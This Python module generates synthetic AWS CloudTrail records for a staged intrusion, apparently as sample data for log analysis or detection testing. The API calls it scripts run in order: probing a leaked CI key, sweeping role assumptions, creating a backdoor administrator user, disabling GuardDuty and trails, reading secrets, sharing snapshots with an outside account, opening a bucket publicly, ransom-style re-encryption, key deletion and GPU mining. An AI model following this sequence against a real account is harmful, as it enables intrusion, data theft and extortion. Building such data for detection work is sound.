# fmt: off
# ruff: noqa: E501 - a step of the story is a line of data
"""The attack in samples/cloudtrail, step by step: who does what, when, and what AWS answers."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from trail import identity
from trail.attacks import record
from trail.shape import KEY, Dice

__all__ = ["BROWSER", "GLOBAL", "HOME", "PROD", "SECURITY", "Actor", "Step", "steps"]

PROD, SECURITY, OUTSIDER = "111122223333", "444455556666", "999988887777"
HOME, GLOBAL, ABROAD = "eu-west-1", "us-east-1", "ap-southeast-1"
THIEF, THIEF_AT_A_BROWSER = "203.0.113.77", "198.51.100.23"
BUCKET, TRAIL = "hf-customer-exports", f"arn:aws:cloudtrail:{HOME}:{PROD}:trail/hf-prod-trail"
KALI = "aws-cli/2.15.42 Python/3.11.8 Linux/6.6.9-kali1-amd64 exe/x86_64.kali.2024 prompt/off command/{}"
BOTO = "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69"
PLAIN = "aws-cli/2.15.42 Python/3.11.8 Linux/5.15.0-105-generic exe/x86_64.ubuntu.22 prompt/off command/{}"
BROWSER = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"


class Step(NamedTuple):
    """One record of the attack; `when` is "14 21:47:12", a day of May 2024 and a time in UTC."""

    when: str
    record: dict[str, Any]


class Actor:
    """Somebody with an identity, an address and a client, who calls and leaves records."""

    def __init__(self, who: dict[str, Any], origin: str, agent: str, dice: Dice) -> None:
        self.who, self.origin, self.agent, self.dice = who, origin, agent, dice

    def __call__(self, when: str, source: str, name: str, request: Any = None, response: Any = None, *, command: str = "",
                 region: str = HOME, denied: str = "", **more: Any) -> Step:  # fmt: skip
        region = GLOBAL if source in ("iam", "sts", "organizations", "signin") else region
        host = f"{source}.amazonaws.com" if source == "iam" else f"{source}.{region}.amazonaws.com"
        if denied:
            more["error"] = ("AccessDenied", f"User: {self.who['arn']} is not authorized to perform: {source}:{name} on resource: {denied}")
        if source == "s3":
            more |= self._s3(request or {})
            host = (request or {}).get("Host", host)
        more.setdefault("read", name.startswith(("Get", "List", "Describe", "AssumeRole", "BatchGet")))
        tls = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": host}
        agent = self.agent.format(command or f"{source}.{_dashed(name)}")
        return Step(when, record(self.who, source, name, region, self.origin, agent, request, response, account=PROD, **({"tlsDetails": tls} | more)))

    def _s3(self, request: dict[str, Any]) -> dict[str, Any]:
        bucket = request.get("bucketName")
        extra = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                 "x-amz-id-2": self.dice.letters(_B64, 75) + "=", "bytesTransferredOut": 0}  # fmt: skip
        if not bucket:
            return {"additionalEventData": extra}
        resources: list[dict[str, str]] = [{"accountId": PROD, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
        if "key" in request:
            resources.insert(0, {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{request['key']}"})
        return {"additionalEventData": extra, "resources": resources, "data": "key" in request}


_B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _dashed(name: str) -> str:
    return "".join(f"-{c.lower()}" if c.isupper() and i else c.lower() for i, c in enumerate(name))


def _minutes(start: str, step: int, n: int) -> list[str]:
    """n moments from "14 22:07:02" on, `step` seconds apart."""
    day, clock = start.split()
    hours, minutes, seconds = map(int, clock.split(":"))
    at = [hours * 3600 + minutes * 60 + seconds + step * i for i in range(n)]
    return [f"{day} {s // 3600:02}:{s // 60 % 60:02}:{s % 60:02}" for s in at]


def _bucket(**more: Any) -> dict[str, Any]:
    return {"bucketName": BUCKET, "Host": f"{BUCKET}.s3.{HOME}.amazonaws.com"} | more


def steps(ci_id: str, ci_key: str, dice: Dice) -> Iterator[Step]:
    """Every record of the attack, in order; ci_id and ci_key are those of the user whose key was lost."""
    user = _user_maker(dice)
    ci = identity.user(PROD, "ci-deploy", ci_id, ci_key)
    yield from _first_access(Actor(ci, THIEF, "TruffleHog", dice), Actor(ci, THIEF, KALI, dice))
    role_id, session = f"AROA{dice.letters(KEY, 17)}", f"ASIA{dice.letters(KEY, 16)}"
    yield from _foothold(Actor(ci, THIEF, KALI, dice), role_id, session, dice)
    role = identity.role(PROD, "legacy-maintenance", role_id, "maint", key=session, began="2024-05-14T22:09:51Z")
    backdoor_id, backdoor_key = f"AIDA{dice.letters(KEY, 17)}", f"AKIA{dice.letters(KEY, 16)}"
    yield from _persistence(Actor(role, THIEF, BOTO, dice), backdoor_id, backdoor_key, dice)
    browser = user("svc-metrics-export", backdoor_id, f"ASIA{dice.letters(KEY, 16)}", began="2024-05-14T22:26:14Z", mfa="false")
    yield _login(backdoor_id)
    yield from _blinding(Actor(browser, THIEF_AT_A_BROWSER, FIREFOX, dice), dice)
    export = user("svc-metrics-export", backdoor_id, backdoor_key)
    yield from _secrets(Actor(export, THIEF, PLAIN, dice), dice)
    keys = [f"exports/2024/05/customers-{dice.hex(8)}.csv.gz" for _ in range(18)]
    yield from _exfiltration(Actor(export, THIEF, BOTO, dice), keys, dice)
    yield from _impact(Actor(export, THIEF, BOTO, dice), keys, dice)


def _user_maker(dice: Dice) -> Callable[..., dict[str, Any]]:
    return lambda name, user_id, key, **more: identity.user(PROD, name, user_id, key, **more)


def _first_access(scanner: Actor, thief: Actor) -> Iterator[Step]:
    """The key works, and what may it do?"""
    yield scanner("14 21:47:12", "sts", "GetCallerIdentity")
    yield thief("14 22:03:40", "sts", "GetCallerIdentity")
    yield thief("14 22:03:58", "s3", "ListBuckets", {"Host": f"s3.{HOME}.amazonaws.com"}, command="s3api.list-buckets")
    yield thief("14 22:04:21", "iam", "ListUsers", denied=f"arn:aws:iam::{PROD}:user/ because no identity-based policy allows the iam:ListUsers action")
    yield thief("14 22:04:33", "iam", "ListAttachedUserPolicies", denied="user ci-deploy because no identity-based policy allows the iam:ListAttachedUserPolicies action")
    yield thief("14 22:04:52", "ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}})
    yield thief("14 22:05:10", "rds", "DescribeDBInstances", None)
    yield thief("14 22:05:29", "secretsmanager", "ListSecrets", denied="* because no identity-based policy allows the secretsmanager:ListSecrets action")
    yield thief("14 22:05:47", "iam", "ListRoles", {"maxItems": 1000})


def _foothold(thief: Actor, role_id: str, session: str, dice: Dice) -> Iterator[Step]:
    """One role after another, until a forgotten one opens."""
    roles = ("Admin", "Administrator", "OrganizationAccountAccessRole", "hf-terraform", "hf-breakglass", "hf-dba", "SecurityAudit", "hf-data-platform")
    for when, role in zip(_minutes("14 22:07:02", 19, len(roles)), roles, strict=True):
        yield thief(when, "sts", "AssumeRole", denied=f"arn:aws:iam::{PROD}:role/{role}")
    arn = f"arn:aws:iam::{PROD}:role/legacy-maintenance"
    granted = {
        "credentials": {"accessKeyId": session, "sessionToken": dice.letters(_B64, 400), "expiration": "May 14, 2024, 11:09:51 PM"},
        "assumedRoleUser": {"assumedRoleId": f"{role_id}:maint", "arn": f"arn:aws:sts::{PROD}:assumed-role/legacy-maintenance/maint"},
    }  # fmt: skip
    yield thief(
        "14 22:09:51", "sts", "AssumeRole", {"roleArn": arn, "roleSessionName": "maint", "durationSeconds": 3600}, granted, resources=[{"accountId": PROD, "type": "AWS::IAM::Role", "ARN": arn}]
    )


def _persistence(role: Actor, backdoor_id: str, backdoor_key: str, dice: Dice) -> Iterator[Step]:
    """An inventory of IAM, then a user of one's own and a key for somebody else's."""
    name = "svc-metrics-export"
    yield role("14 22:12:05", "iam", "GetAccountAuthorizationDetails")
    yield role("14 22:13:48", "iam", "ListAttachedRolePolicies", {"roleName": "legacy-maintenance"})
    yield role("14 22:14:30", "iam", "ListUsers")
    made = {"path": "/", "userName": name, "userId": backdoor_id, "arn": f"arn:aws:iam::{PROD}:user/{name}", "createDate": "May 14, 2024 10:18:05 PM"}
    yield role("14 22:18:05", "iam", "CreateUser", {"userName": name}, {"user": made})
    yield role("14 22:18:31", "iam", "AttachUserPolicy", {"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    key = {"accessKeyId": backdoor_key, "status": "Active", "userName": name, "createDate": "May 14, 2024 10:18:58 PM"}
    yield role("14 22:18:58", "iam", "CreateAccessKey", {"userName": name}, {"accessKey": key})
    profile = {"loginProfile": {"userName": name, "createDate": "May 14, 2024 10:19:40 PM", "passwordResetRequired": False}}
    yield role("14 22:19:40", "iam", "CreateLoginProfile", {"userName": name, "passwordResetRequired": False}, profile)
    other = {"accessKeyId": f"AKIA{dice.letters(KEY, 16)}", "status": "Active", "userName": "backup-operator", "createDate": "May 14, 2024 10:21:02 PM"}
    yield role("14 22:21:02", "iam", "CreateAccessKey", {"userName": "backup-operator"}, {"accessKey": other})


def _login(backdoor_id: str) -> Step:
    who = {"type": "IAMUser", "principalId": backdoor_id, "arn": f"arn:aws:iam::{PROD}:user/svc-metrics-export", "accountId": PROD, "userName": "svc-metrics-export"}
    extra = {"LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_eu-west-1_3f1b2c", "MobileVersion": "No", "MFAUsed": "No"}
    tls = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": "signin.aws.amazon.com"}
    return Step("14 22:26:14", record(who, "signin", "ConsoleLogin", GLOBAL, THIEF_AT_A_BROWSER, FIREFOX, None, {"ConsoleLogin": "Success"},
                                      additionalEventData=extra, eventType="AwsConsoleSignIn", tlsDetails=tls))  # fmt: skip


def _blinding(console: Actor, dice: Dice) -> Iterator[Step]:
    """Detection off, the account's own trail blind, stopped and gone; the organisation's holds."""
    seen: dict[str, Any] = {"sessionCredentialFromConsole": "true"}
    detector = dice.hex(32)
    yield console("14 22:28:40", "guardduty", "ListDetectors", {}, **seen)
    yield console("14 22:29:02", "cloudtrail", "DescribeTrails", {"includeShadowTrails": True}, **seen)
    yield console("14 22:31:15", "guardduty", "UpdateDetector", {"detectorId": detector, "enable": False}, **seen)
    selectors = [{"readWriteType": "All", "includeManagementEvents": False, "dataResources": [], "excludeManagementEventSources": []}]
    yield console("14 22:32:36", "cloudtrail", "PutEventSelectors", {"trailName": TRAIL, "eventSelectors": selectors}, {"trailARN": TRAIL, "eventSelectors": selectors}, **seen)
    yield console("14 22:33:20", "cloudtrail", "StopLogging", {"name": TRAIL}, **seen)
    yield console("14 22:34:02", "cloudtrail", "DeleteTrail", {"name": TRAIL}, **seen)
    org = f"arn:aws:cloudtrail:{HOME}:{SECURITY}:trail/hf-organisation"
    yield console("14 22:34:47", "cloudtrail", "StopLogging", denied=f"{org} with an explicit deny in a service control policy", **seen)
    gone = {"DeleteFlowLogsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "requestId": dice.uuid(), "unsuccessful": ""}}
    yield console("14 22:36:11", "ec2", "DeleteFlowLogs", {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": f"fl-0{dice.hex(16)}"}}}, gone, **seen)


def _secrets(thief: Actor, dice: Dice) -> Iterator[Step]:
    """Every secret that has a telling name, then the rest at once."""
    yield thief("14 22:41:06", "sts", "GetCallerIdentity")
    yield thief("14 22:41:30", "secretsmanager", "ListSecrets", {"maxResults": 100})
    names = (
        "prod/orders/db",
        "prod/ledger/db",
        "prod/payments/gateway",
        "prod/mailer/smtp",
        "prod/identity/jwt-signing",
        "shared/github/app",
        "shared/slack/bot",
        "prod/warehouse/redshift",
        "prod/partners/sftp",
    )
    for when, name in zip(_minutes("14 22:41:52", 11, len(names)), names, strict=True):
        yield thief(when, "secretsmanager", "GetSecretValue", {"secretId": f"arn:aws:secretsmanager:{HOME}:{PROD}:secret:{name}-{dice.letters(b'abcdefghijkmnpqr', 6)}"})
    yield thief("14 22:44:18", "secretsmanager", "BatchGetSecretValue", {"filters": [{"key": "name", "values": ["prod/"]}], "maxResults": 20})


def _exfiltration(thief: Actor, keys: list[str], dice: Dice) -> Iterator[Step]:
    """A disk and a database to a stranger's account, a bucket to the world."""
    volume, snapshot = f"vol-0{dice.hex(16)}", f"snap-0{dice.hex(16)}"
    yield thief("14 22:51:09", "ec2", "DescribeVolumes", {"volumeSet": {}, "filterSet": {"items": [{"name": "tag:Name", "valueSet": {"items": [{"value": "*ledger*"}]}}]}})
    made = {"requestId": dice.uuid(), "snapshotId": snapshot, "volumeId": volume, "status": "pending", "startTime": 1715727163000, "ownerId": PROD, "volumeSize": "500", "encrypted": False}
    yield thief("14 22:52:43", "ec2", "CreateSnapshot", {"volumeId": volume}, made)
    database, copy = "hf-orders", "hf-orders-migration"
    made = {"dBSnapshotIdentifier": copy, "dBInstanceIdentifier": database, "engine": "postgres", "engineVersion": "15.4", "status": "creating", "snapshotType": "manual", "allocatedStorage": 400, "encrypted": False, "percentProgress": 0,
            "dBSnapshotArn": f"arn:aws:rds:{HOME}:{PROD}:snapshot:{copy}", "masterUsername": "hf_admin", "port": 5432}  # fmt: skip
    yield thief("14 22:53:20", "rds", "CreateDBSnapshot", {"dBInstanceIdentifier": database, "dBSnapshotIdentifier": copy}, made)
    shared = {"snapshotId": snapshot, "createVolumePermission": {"add": {"items": [{"userId": OUTSIDER}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}
    yield thief("14 23:05:37", "ec2", "ModifySnapshotAttribute", shared, {"requestId": dice.uuid(), "_return": True})
    shared = {"dBSnapshotIdentifier": copy, "attributeName": "restore", "valuesToAdd": [OUTSIDER]}
    yield thief("14 23:07:12", "rds", "ModifyDBSnapshotAttribute", shared, {"dBSnapshotIdentifier": copy, "dBSnapshotAttributes": [{"attributeName": "restore", "attributeValues": [OUTSIDER]}]})
    yield thief("15 00:09:44", "s3", "DeleteBucketPublicAccessBlock", _bucket(publicAccessBlock=""))
    policy = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": "*", "Action": ["s3:GetObject", "s3:ListBucket"], "Resource": [f"arn:aws:s3:::{BUCKET}", f"arn:aws:s3:::{BUCKET}/*"]}],
    }
    yield thief("15 00:10:20", "s3", "PutBucketPolicy", _bucket(bucketPolicy=policy, policy=""))
    for when, key in zip(_minutes("15 00:12:03", 7, len(keys)), keys, strict=True):
        yield thief(when, "s3", "GetObject", _bucket(key=key))


def _impact(thief: Actor, keys: list[str], dice: Dice) -> Iterator[Step]:
    """What is left is encrypted with a key that only the thief has; then the bill."""
    yield thief("15 01:01:18", "s3", "PutBucketVersioning", _bucket(versioning="", VersioningConfiguration={"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/", "Status": "Suspended"}))
    for when, key in zip(_minutes("15 01:02:30", 9, 12), keys, strict=False):
        own = {"key": key, "x-amz-copy-source": f"{BUCKET}/{key}", "x-amz-server-side-encryption-customer-algorithm": "AES256"}
        yield thief(when, "s3", "CopyObject", _bucket(**own), {"x-amz-server-side-encryption-customer-algorithm": "AES256"})
    yield thief("15 01:05:02", "s3", "PutObject", _bucket(key="READ_ME_TO_RECOVER_YOUR_FILES.txt"))
    rule = {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/", "Rule": {"Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 7}, "ID": "gone-in-seven-days"}}
    yield thief("15 01:05:40", "s3", "PutBucketLifecycle", _bucket(lifecycle="", LifecycleConfiguration=rule))
    yield from _miners(thief, dice)
    key_id = dice.uuid()
    asked = {"keyId": f"arn:aws:kms:{HOME}:{PROD}:key/{key_id}", "pendingWindowInDays": 7}
    answer = {"keyId": asked["keyId"], "deletionDate": "May 22, 2024 12:00:00 AM", "keyState": "PendingDeletion", "pendingWindowInDays": 7}
    yield thief("15 01:41:33", "kms", "ScheduleKeyDeletion", asked, answer, resources=[{"accountId": PROD, "type": "AWS::KMS::Key", "ARN": asked["keyId"]}])
    yield thief("15 02:15:09", "organizations", "LeaveOrganization", denied="* with an explicit deny in a service control policy")


def _miners(thief: Actor, dice: Dice) -> Iterator[Step]:
    """Graphics cards in a region that nobody here uses."""

    def run(kind: str, count: int) -> dict[str, Any]:
        return {"instancesSet": {"items": [{"imageId": "ami-0" + dice.hex(16), "minCount": 1, "maxCount": count, "keyName": "mk"}]}, "groupSet": {"items": [{"groupId": group}]}, "instanceType": kind,
                "blockDeviceMapping": {}, "monitoring": {"enabled": False}, "disableApiTermination": True, "disableApiStop": True, "clientToken": dice.uuid()}  # fmt: skip

    group = f"sg-0{dice.hex(16)}"
    yield thief(
        "15 01:20:12", "ec2", "DescribeInstanceTypes", {"DescribeInstanceTypesRequest": {"Filter": {"Name": "instance-type", "tag": 1, "Value": {"tag": 1, "content": "p4d.*"}}}}, region=ABROAD
    )
    opened = {
        "groupId": group,
        "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {}, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {}, "prefixListIds": {}}]},
    }
    yield thief("15 01:21:40", "ec2", "AuthorizeSecurityGroupIngress", opened, {"requestId": dice.uuid(), "_return": True}, region=ABROAD)
    quota = "You have requested more vCPU capacity than your current vCPU limit of 0 allows for the instance bucket that the specified instance type belongs to. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit."
    yield thief("15 01:22:55", "ec2", "RunInstances", run("p4d.24xlarge", 8), region=ABROAD, error=("Client.VcpuLimitExceeded", quota))
    started = {"requestId": dice.uuid(), "reservationId": f"r-0{dice.hex(16)}", "ownerId": PROD, "groupSet": {}, "instancesSet": {"items": [
        {"instanceId": f"i-0{dice.hex(16)}", "instanceState": {"code": 0, "name": "pending"}, "instanceType": "g5.12xlarge", "launchTime": 1715736240000, "placement": {"availabilityZone": f"{ABROAD}a", "tenancy": "default"}} for _ in range(2)]}}  # fmt: skip
    yield thief("15 01:24:00", "ec2", "RunInstances", run("g5.12xlarge", 2), started, region=ABROAD)
